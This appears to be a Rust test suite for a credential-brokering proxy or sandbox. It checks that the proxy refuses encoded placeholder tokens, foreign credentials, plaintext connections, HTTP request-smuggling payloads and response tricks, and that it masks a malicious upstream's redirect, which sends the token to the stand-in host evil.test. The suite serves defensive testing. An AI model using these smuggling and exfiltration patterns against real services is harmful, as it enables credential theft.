//! Every known failure of other brokers, tried.

use std::io::{Read as _, Write as _};

use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE};
use rustls::RootCertStore;

use crate::world::{OTHER, Setup, VALUE, World, ok};

fn hex(text: &str) -> String {
    text.bytes().map(|byte| format!("{byte:02x}")).collect()
}

#[test]
fn a_placeholder_in_any_other_place_or_form_is_refused() {
    crate::trusting!("attacks::a_placeholder_in_any_other_place_or_form_is_refused");
    let world = World::new(Setup::default());
    let (token, other) = (world.token().to_owned(), world.other().to_owned());
    let fields = [
        format!("X-Other: {token}"),
        format!("User-Agent: a{token}b"),
        format!("X-Other: {}", STANDARD.encode(&token)),
        format!("X-Other: {}", URL_SAFE.encode(format!("ab{token}"))),
        format!("X-Other: {}", hex(&token).to_uppercase()),
        format!("Cookie: session={token}"),
        // A secret of another host.
        format!("Authorization: Bearer {other}"),
        format!("Authorization: Basic {}", STANDARD.encode(format!("me:{other}"))),
        format!("Authorization: Bearer {token}, {other}"),
        // Brute force by a form of the caller's choice.
        format!("Authorization: Bearer {}", STANDARD.encode(&token)),
        format!("Authorization: Bearer {}", hex(&token)),
    ];
    for field in &fields {
        let answer = world.get(field);
        assert!(
            answer.starts_with("HTTP/1.1 403") && answer.contains("secret-misdirected"),
            "{field}: {answer}"
        );
    }
    for line in [format!("GET /{token}"), format!("GET /?q={token}"), format!("GET /?q={}", hex(&token))] {
        let answer = world.ask(&line, &[], "");
        assert!(answer.contains("secret-misdirected"), "{line}: {answer}");
    }
    let chunked = format!("{:x}\r\n{token}\r\n0\r\n\r\n", token.len());
    let answer = world.ask("POST /", &["Transfer-Encoding: chunked"], &chunked);
    assert!(answer.contains("secret-misdirected"), "{answer}");
    assert!(world.was_told("the placeholder of a secret was sent where its value is not used"));
    world.assert_nothing_leaked();
    // The same request without a placeholder is passed on.
    assert!(world.get("X-Other: harmless").starts_with("HTTP/1.1 200"));
}

#[test]
fn a_credential_of_ones_own_is_refused() {
    crate::trusting!("attacks::a_credential_of_ones_own_is_refused");
    let world = World::new(Setup::default());
    let own = STANDARD.encode("attacker:secret");
    for field in [
        "Authorization: Bearer attackers-own-key".to_owned(),
        format!("Authorization: Basic {own}"),
        "X-Api-Key: attackers-own-key".to_owned(),
        "Cookie: session=attackers-own".to_owned(),
    ] {
        let answer = world.get(&field);
        assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("secret-foreign"), "{field}: {answer}");
    }
    let answer = world.ask("GET /?access_token=attackers", &[], "");
    assert!(answer.contains("secret-foreign"), "{answer}");
    assert!(world.heard.lock().unwrap().is_empty());
    let allowing = World::new(Setup { manifest: "[secrets.TOKEN]\nforeign = 'allow'\n", ..Setup::default() });
    assert!(allowing.get("Authorization: Bearer attackers-own-key").starts_with("HTTP/1.1 200"));
}

#[test]
fn the_secret_of_one_host_never_reaches_another() {
    crate::trusting!("attacks::the_secret_of_one_host_never_reaches_another");
    let world = World::new(Setup::default());
    let (port, token) = (world.other_port, world.token());
    let mut tls = world.tls(("other.test", port), "other.test", world.roots()).unwrap();
    write!(tls, "GET / HTTP/1.1\r\nHost: other.test:{port}\r\nAuthorization: Bearer {token}\r\n\r\n")
        .unwrap();
    let answer = crate::world::read_message(&mut tls).unwrap();
    assert!(answer.contains("secret-misdirected"), "{answer}");
    // Under the name of one host, for the other.
    let mut tls = world.to_api();
    write!(tls, "GET / HTTP/1.1\r\nHost: other.test:{port}\r\n\r\n").unwrap();
    let answer = crate::world::read_message(&mut tls).unwrap();
    assert!(answer.starts_with("HTTP/1.1 403") && answer.contains("net-http-host-other"), "{answer}");
    assert!(
        world.tls(("api.test", world.port), "other.test", world.roots()).is_err(),
        "the names must agree"
    );
    world.assert_nothing_leaked();
}

#[test]
fn outside_of_tls_nothing_is_said_to_its_host_and_no_placeholder_to_any() {
    crate::trusting!("attacks::outside_of_tls_nothing_is_said_to_its_host_and_no_placeholder_to_any");
    let world = World::new(Setup::default());
    let token = world.token().to_owned();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let heard = std::thread::spawn(move || {
        let mut all = Vec::new();
        for stream in listener.incoming().take(4).flatten() {
            let mut piece = [0; 4096];
            stream.set_read_timeout(Some(std::time::Duration::from_secs(5))).unwrap();
            let mut stream = stream;
            while let Ok(length) = stream.read(&mut piece) {
                all.extend_from_slice(&piece[..length]);
                if length == 0 || all.ends_with(b"harmless") {
                    break;
                }
            }
        }
        String::from_utf8_lossy(&all).into_owned()
    });
    for (host, at, says) in [
        (
            "api.test",
            world.port,
            format!(
                "GET / HTTP/1.1\r\nHost: api.test:{}\r\nAuthorization: Bearer {token}\r\n\r\n",
                world.port
            ),
        ),
        ("api.test", world.port, format!("GET / HTTP/1.1\r\nHost: api.test:{}\r\n\r\n", world.port)),
        (
            "plain.test",
            port,
            format!("GET / HTTP/1.1\r\nHost: plain.test:{port}\r\nAuthorization: Bearer {token}\r\n\r\n"),
        ),
        (
            "plain.test",
            port,
            format!("POST / HTTP/1.1\r\nHost: plain.test:{port}\r\nContent-Length: 60\r\n\r\n{token:>60}"),
        ),
        ("raw.test", port, format!("AUTH {token}\r\n")),
        ("raw.test", port, "AUTH harmless".to_owned()),
    ] {
        let mut stream = world.connect(host, at);
        drop(stream.write_all(says.as_bytes()));
        let mut answer = Vec::new();
        drop(stream.read_to_end(&mut answer));
    }
    let heard = heard.join().unwrap();
    assert!(heard.ends_with("AUTH harmless") && !heard.contains(&token), "{heard}");
    assert!(world.was_told("it is spoken to in TLS"), "its host");
    assert!(world.was_told("refused plain.test") && world.was_told("refused raw.test"));
    world.assert_nothing_leaked();
}

#[test]
fn a_client_that_does_not_trust_the_session_is_refused_with_the_reason() {
    crate::trusting!("attacks::a_client_that_does_not_trust_the_session_is_refused_with_the_reason");
    let world = World::new(Setup::default());
    assert!(world.tls(("api.test", world.port), "api.test", &RootCertStore::empty()).is_err());
    for _ in 0..500 {
        if world.was_told("does not trust the sandbox's certificate") {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    assert!(world.was_told("does not trust the sandbox's certificate"));
    assert!(world.heard.lock().unwrap().is_empty());
}

#[test]
fn a_server_that_cannot_be_verified_gets_nothing() {
    crate::trusting!("attacks::a_server_that_cannot_be_verified_gets_nothing");
    let world = World::new(Setup { is_trusted: false, ..Setup::default() });
    let answer = world.get(&format!("Authorization: Bearer {}", world.token()));
    assert!(answer.starts_with("HTTP/1.1 502") && answer.contains("secret-upstream"), "{answer}");
    assert!(world.heard.lock().unwrap().is_empty());
}

#[test]
fn one_session_is_nothing_to_another() {
    crate::trusting!("attacks::one_session_is_nothing_to_another");
    let (one, other) = (World::new(Setup::default()), World::new(Setup::default()));
    assert!(
        other.tls(("api.test", other.port), "api.test", one.roots()).is_err(),
        "its authority is not trusted"
    );
    assert!(other.get(&format!("Authorization: Bearer {}", one.token())).contains("secret-foreign"));
    assert_ne!(one.token(), other.token());
}

#[test]
fn requests_that_could_be_read_in_two_ways_are_refused() {
    crate::trusting!("attacks::requests_that_could_be_read_in_two_ways_are_refused");
    let world = World::new(Setup::default());
    let token = format!("Authorization: Bearer {}", world.token());
    for fields in [
        &["Content-Length: 4", "Content-Length: 5"][..],
        &["Content_Length: 4"],
        &["Transfer-Encoding: xchunked"],
        &["Host: other.test"],
        &["X-HTTP-Method-Override: DELETE", "Upgrade: websocket", "Connection: Upgrade"],
        &["X : y"],
    ] {
        let fields: Vec<&str> = fields.iter().copied().chain([token.as_str()]).collect();
        let answer =
            world.ask("POST /", &fields, "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: api.test\r\n\r\n");
        assert!(answer.starts_with("HTTP/1.1 4"), "{fields:?}: {answer}");
    }
    for line in ["CONNECT other.test:443", "GET https://other.test/", "GET http://api.test/"] {
        let answer = world.ask(line, &[&token], "");
        assert!(answer.starts_with("HTTP/1.1 4") || answer.is_empty(), "{line}: {answer}");
    }
    assert!(world.heard.lock().unwrap().is_empty(), "{:?}", world.heard.lock().unwrap());
    // Two lengths: what counts is written anew, and the other one is gone.
    let both = ["Content-Length: 4", "Transfer-Encoding: chunked", &token];
    world.ask("POST /", &both, "0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: api.test\r\n\r\n");
    let heard = world.heard.lock().unwrap().join("\n").to_ascii_lowercase();
    let framing = heard.matches("content-length:").count() + heard.matches("transfer-encoding:").count();
    assert!(framing == 1 && !heard.contains("smuggled"), "{heard}");
}

#[test]
fn what_a_client_may_not_choose_is_not_passed_on() {
    crate::trusting!("attacks::what_a_client_may_not_choose_is_not_passed_on");
    let world = World::new(Setup { respond: |_| ok("fine"), ..Setup::default() });
    let token = format!("Authorization: Bearer {}", world.token());
    let fields = [
        &token,
        "Range: bytes=0-3",
        "If-Range: x",
        "Accept-Encoding: gzip",
        "Accept-Charset: utf-16",
        "A-IM: vcdiff",
        "Connection: x-drop",
        "X-Drop: 1",
        "TE: trailers",
    ];
    assert!(world.ask("GET /", &fields, "").ends_with("fine"));
    let heard = world.heard.lock().unwrap().pop().unwrap().to_ascii_lowercase();
    for gone in ["range", "gzip", "x-drop", "te:", "trailers", "utf-16", "a-im"] {
        assert!(!heard.contains(gone), "{gone}: {heard}");
    }
}

#[test]
fn a_response_in_which_a_value_could_hide_is_withheld() {
    crate::trusting!("attacks::a_response_in_which_a_value_could_hide_is_withheld");
    let partial: fn(&str) -> Vec<u8> = |_| {
        b"HTTP/1.1 206 Partial Content\r\nContent-Range: bytes 0-3/9\r\nContent-Length: 4\r\n\r\nghp_"
            .to_vec()
    };
    let coded: fn(&str) -> Vec<u8> =
        |_| b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 2\r\n\r\n\x1f\x8b".to_vec();
    let letters: fn(&str) -> Vec<u8> = |_| {
        b"HTTP/1.1 200 OK\r\nContent-Type: text/plain; Charset = \"UTF-16le\"\r\nContent-Length: 4\r\n\r\ng\0h\0".to_vec()
    };
    let difference: fn(&str) -> Vec<u8> =
        |_| b"HTTP/1.1 226 IM Used\r\nIM: vcdiff\r\nContent-Length: 4\r\n\r\nghp_".to_vec();
    for respond in [partial, coded, letters, difference] {
        let world = World::new(Setup { respond, ..Setup::default() });
        let answer = world.get(&format!("Authorization: Bearer {}", world.token()));
        assert!(answer.starts_with("HTTP/1.1 502") && answer.contains("secret-response"), "{answer}");
    }
    let switching: fn(&str) -> Vec<u8> =
        |_| b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: x\r\n\r\n".to_vec();
    let world = World::new(Setup { respond: switching, ..Setup::default() });
    assert!(!world.get("X: y").starts_with("HTTP/1.1 101"));
}

#[test]
fn a_redirect_leads_to_nothing_with_a_value() {
    crate::trusting!("attacks::a_redirect_leads_to_nothing_with_a_value");
    let respond: fn(&str) -> Vec<u8> = |request| {
        let value = request.lines().find_map(|line| line.strip_prefix("authorization: Bearer ")).unwrap();
        format!("HTTP/1.1 302 Found\r\nLocation: https://evil.test/?t={value}\r\nSet-Cookie: a={value}\r\nAlt-Svc: h3=\"evil.test:443\"\r\nContent-Length: 0\r\n\r\n").into_bytes()
    };
    let world = World::new(Setup { respond, ..Setup::default() });
    let answer = world.get(&format!("Authorization: Bearer {}", world.token()));
    let stars = "*".repeat(VALUE.len());
    assert!(
        answer.contains(&format!("https://evil.test/?t={stars}")) && answer.contains(&format!("a={stars}")),
        "{answer}"
    );
    assert!(!answer.contains(VALUE) && !answer.contains(OTHER));
    assert!(!answer.to_ascii_lowercase().contains("alt-svc"), "nor to the same host elsewhere: {answer}");
}
